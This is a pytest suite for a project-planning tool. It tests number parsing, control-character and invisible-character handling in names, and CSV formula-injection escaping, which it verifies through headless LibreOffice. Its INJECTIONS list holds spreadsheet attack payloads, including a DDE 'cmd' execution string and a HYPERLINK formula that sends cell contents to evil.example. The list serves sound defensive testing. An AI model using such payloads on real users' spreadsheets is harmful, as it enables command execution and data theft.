"""Hostile input at the layers below the window: the one number parser, text rules and name
keys, extreme values through the engine, CSV formula injection (checked in LibreOffice)."""

from __future__ import annotations

import csv
import math
import os
import shutil
import subprocess
import warnings

import openpyxl
import pytest

from vivim_planner.commands import set_cell, set_settings
from vivim_planner.domain import (DECIMAL_COMMA, DECIMAL_POINT, SPECS, CellError, FieldError, Kind, Plan,
                                  PlanSettings, forbidden_character, number_locale_of, read_number, text_key)
from vivim_planner.engine import audit, compute
from vivim_planner.excel import export_workbook
from vivim_planner.excel.grid_csv import escape_text, write_grid_csv
from vivim_planner.storage import PlanDocument
from hostile_corpus import SAMPLE

FTE = SPECS["allocations"].field("fte")
RATE = SPECS["roles"].field("hourly_rate")
HOURS = SPECS["allocations"].field("months")


# -- numbers ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text, meant", [("0,5", "0.5"), ("1,5", "1.5"), ("12,34", "12.34"), ("1,2345", "1.2345"),
                                         ("1.234,5", "1234.5"), ("-0,25", "-0.25"), ("12,5%", "12.5%")])
def test_a_decimal_comma_is_refused_with_what_was_meant(text, meant):
    with pytest.raises(FieldError) as e:
        FTE.parse(text)
    assert e.value.reason.startswith(f'FTE got "{text}", a decimal comma: write {meant} ')


def test_the_refusal_names_the_cell():
    plan = Plan()
    plan.milestones.extend([{"id": 1, "code": "M1", "name": "A", "start_month": 1.0, "end_month": 2.0}])
    plan.roles.extend([{"id": 1, "name": "Dev", "hourly_rate": 50.0}])
    plan.allocations.extend([{"id": 1, "milestone": 1, "role": 1, "months": 1.0, "fte": 1.0}])
    with pytest.raises(CellError) as e:
        set_cell(plan, "allocations", 1, "fte", "0,5")
    assert str(e.value).startswith('Team!F2: FTE got "0,5", a decimal comma: write 0.5')
    with pytest.raises(CellError, match=r'^Rate card!C2: Hourly rate got "1.234,5", a decimal comma: write 1234.5'):
        set_cell(plan, "roles", 1, "hourly_rate", "1.234,5")
    assert plan.allocations.get(0, "fte") == 1.0 and plan.roles.get(0, "hourly_rate") == 50.0


def test_grouping_commas_still_read_as_thousands():
    assert RATE.parse("1,200") == 1200.0
    assert SPECS["allocations"].field("lump_sum").parse("$1,234,567.89") == 1234567.89


@pytest.mark.parametrize("text, value", [("0,5", 0.5), ("1.234,5", 1234.5), ("1.200", 1200.0), ("12,5%", 0.125),
                                         ("1 234,5", 1234.5)])
def test_a_plan_with_decimal_commas_reads_them(text, value):
    assert FTE.parse(text, DECIMAL_COMMA) == pytest.approx(value) if value <= 10 else RATE.parse(text, DECIMAL_COMMA) == value


def test_a_plan_with_decimal_commas_refuses_a_decimal_point():
    with pytest.raises(FieldError, match=r'a decimal point: write 0,5 \(this plan writes numbers as 1.234,5'):
        FTE.parse("0.5", DECIMAL_COMMA)


def test_the_number_locale_is_a_plan_setting_that_every_cell_follows():
    plan = Plan()
    plan.milestones.extend([{"id": 1, "code": "M1", "name": "A", "start_month": 1.0, "end_month": 2.0}])
    plan.roles.extend([{"id": 1, "name": "Dev", "hourly_rate": 50.0}])
    plan.allocations.extend([{"id": 1, "milestone": 1, "role": 1, "months": 1.0, "fte": 1.0}])
    set_settings(plan, {"number_locale": "comma"}).apply(plan)
    assert plan.settings.number_locale == DECIMAL_COMMA
    set_cell(plan, "allocations", 1, "fte", "0,5").apply(plan)
    assert plan.allocations.get(0, "fte") == 0.5
    with pytest.raises(CellError, match="Number format must be"):
        set_settings(plan, {"number_locale": "1'234.5"})
    assert PlanSettings().number_locale == DECIMAL_POINT  # files from before the setting read as they did
    assert number_locale_of(",") == DECIMAL_COMMA and number_locale_of(".") == DECIMAL_POINT


@pytest.mark.parametrize("text", ["15%", "0.5%", "100 %", "(5%)"])
def test_a_percentage_is_refused_in_a_money_cell(text):
    with pytest.raises(FieldError, match=r"^Hourly rate is an amount in USD/hour, not a percentage"):
        RATE.parse(text)


def test_a_percentage_still_reads_as_a_share_where_a_share_is_meant():
    assert SPECS["payment_fees"].field("percent").parse("2.9%") == pytest.approx(0.029)
    assert FTE.parse("50%") == 0.5


@pytest.mark.parametrize("raw", ["1e-320", 1e-320, 5e-324, "4.9e-324", "1e-400", "-1e-310"])
def test_subnormal_and_underflowing_numbers_are_refused(raw):
    with pytest.raises(FieldError, match="too close to zero"):
        RATE.parse(raw)


def test_the_smallest_normal_float_and_zero_are_accepted():
    assert RATE.parse("2.2250738585072014e-308") == 2.2250738585072014e-308
    assert RATE.parse("0") == 0.0 and math.copysign(1, RATE.parse("-0")) == 1.0  # -0 is stored as 0


@pytest.mark.parametrize("text", ["nan", "inf", "-inf", "1e400", "0x10", "1_0_0k0", "١٢", "1..2", "--1", "12 apples",
                                  "=1+1", "1,2,3,4", "\x00", "1\x1b", "Infinity"])
def test_non_numbers_are_refused(text):
    with pytest.raises(FieldError):
        RATE.parse(text)


def test_typographic_minus_and_full_width_digits_read_as_numbers():
    assert read_number("−4").value == -4.0
    assert read_number("１２").value == 12.0
    assert read_number("+5").value == 5.0


def test_a_tiny_normal_value_keeps_compute_audit_and_export_working(tmp_path):
    """Every numeric field at the extremes it accepts: the engine computes, audits and exports
    (2.3e-308 as an FTE made the audit raise OverflowError)."""
    doc = PlanDocument.open(SAMPLE, readonly=True)
    plan = doc.plan
    doc.close()
    warnings.simplefilter("ignore", RuntimeWarning)
    failures = []
    for name, t in plan.tables.items():
        if not len(t):
            continue
        for f in t.spec.fields:
            if not f.is_numeric or f.kind is Kind.INTEGER:
                continue
            for v in (max(f.smallest, f.minimum or 0) if (f.minimum or 0) <= f.smallest else f.minimum, f.maximum):
                if v is None or v == 0:
                    continue
                f.parse(v)  # the domain accepts it
                old = t.column(f.name).copy()
                t.column(f.name)[:] = v
                try:
                    audit(plan, compute(plan))
                except Exception as e:  # noqa: BLE001
                    failures.append(f"{name}.{f.name}={v}: {type(e).__name__}: {e}")
                t._cols[f.name] = old
    assert not failures, "\n".join(failures)
    plan.roles.column("hourly_rate")[:] = 2.3e-308
    export_workbook(plan, tmp_path / "tiny.xlsx")  # and the workbook is written


# -- text ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, what", [("CEO\x00", "U+0000"), ("\x1b[2J", "U+001B"), ("a\x7fb", "U+007F"),
                                        ("two\nlines", "a line break"), ("tab\there", "a tab"),
                                        ("evil\u202egnp", "U+202E"), ("x\ud800", "surrogate")])
def test_control_characters_are_refused_in_names(text, what):
    with pytest.raises(FieldError) as e:
        SPECS["roles"].field("name").parse(text)
    assert what in e.value.reason and e.value.reason.startswith("Role cannot hold")


def test_notes_may_hold_line_breaks_and_tabs_but_not_other_controls():
    notes = SPECS["milestones"].field("notes")
    assert notes.parse("line 1\r\nline 2\tend") == "line 1\r\nline 2\tend"
    with pytest.raises(FieldError, match=r"U\+0007"):
        notes.parse("bell\x07")
    assert forbidden_character("Café — naïve 日本") is None
    with pytest.raises(CellError, match="Plan name cannot hold"):
        PlanSettings.parse("name", "Plan\x1b")


@pytest.mark.parametrize("twin", ["Designer\u200b", "Ｄｅｓｉｇｎｅｒ", "DESIGNER", " designer ", "De\u00adsigner",
                                  "\ufeffDesigner", "Desi\u200dgner"])
def test_names_that_differ_only_invisibly_are_one_name(twin):
    plan = Plan()
    plan.roles.extend([{"id": 1, "name": "Designer"}, {"id": 2, "name": "Developer"}])
    assert text_key(twin) == text_key("Designer")
    with pytest.raises(CellError, match='already used by row 2'):
        set_cell(plan, "roles", 2, "name", twin)
    assert plan.find_ref("roles", twin) == 1  # and a team line naming it finds the role
    assert [plan.roles.get(i, "name") for i in range(2)] == ["Designer", "Developer"]


def test_distinct_names_stay_distinct():
    assert text_key("Design") != text_key("Designer")
    assert text_key("Back end") != text_key("Backend")


# -- CSV -------------------------------------------------------------------------------------

INJECTIONS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)",
              "\t=1+1", "\r=1+1"]


def _plan_with_names(names: list[str]) -> Plan:
    plan = Plan()
    plan.roles.extend([{"id": i + 1, "name": n if not n.startswith(("\t", "\r")) else n, "hourly_rate": -0.0 + i,
                        "category": n} for i, n in enumerate(names)])
    return plan


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    plan = _plan_with_names(INJECTIONS + ["Plain", "-"])
    path = write_grid_csv(plan, "roles", tmp_path / "roles.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + n for n in INJECTIONS] + ["Plain", "'-"]
    assert [r[2] for r in rows[1:]] == [str(i) for i in range(len(INJECTIONS) + 2)]  # numbers untouched
    assert escape_text("a=b") == "a=b" and escape_text("") == ""


def _soffice() -> str:
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe:
        return exe
    if os.environ.get("CI", "").lower() == "true":
        pytest.fail("LibreOffice (soffice) is not installed (CI must run this test)")
    pytest.skip("LibreOffice (soffice) is not installed")


def _libreoffice_cells(csv_path, tmp_path):  # noqa: ANN001, ANN202
    """The cells LibreOffice makes of a CSV, importing it with formulas evaluated (filter
    token 13), saved as .xlsx and read back with openpyxl (formulas as formulas)."""
    out = tmp_path / f"lo-{csv_path.stem}"
    out.mkdir()
    profile = tmp_path / "profile"
    r = subprocess.run([_soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
                        "--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,,true",
                        "--convert-to", "xlsx", "--outdir", str(out), str(csv_path)],
                       capture_output=True, text=True, timeout=240)
    result = out / (csv_path.stem + ".xlsx")
    assert r.returncode == 0 and result.exists(), r.stdout + r.stderr
    ws = openpyxl.load_workbook(result).active
    return [[c for c in row] for row in ws.iter_rows()]


def test_libreoffice_opens_the_exported_csv_without_a_formula(tmp_path):
    canary = tmp_path / "canary.csv"  # the same cells unescaped: LibreOffice runs them
    canary.write_text("Role\n=1+41\n", encoding="utf-8")
    cells = _libreoffice_cells(canary, tmp_path)
    assert cells[1][0].data_type == "f", "LibreOffice did not evaluate formulas: the check below proves nothing"
    plan = _plan_with_names(INJECTIONS + ["Plain"])
    path = write_grid_csv(plan, "roles", tmp_path / "roles.csv")
    cells = _libreoffice_cells(path, tmp_path)
    formulas = [c.coordinate for row in cells for c in row if c.data_type == "f"]
    assert not formulas, f"formulas in {formulas}"
    shown = [str(row[0].value) for row in cells[1:]]
    assert all(n.strip() in s for n, s in zip(INJECTIONS, shown)), shown  # the text is there, as text
    assert [row[2].value for row in cells[1:]] == list(range(len(INJECTIONS) + 1))  # numbers stay numbers
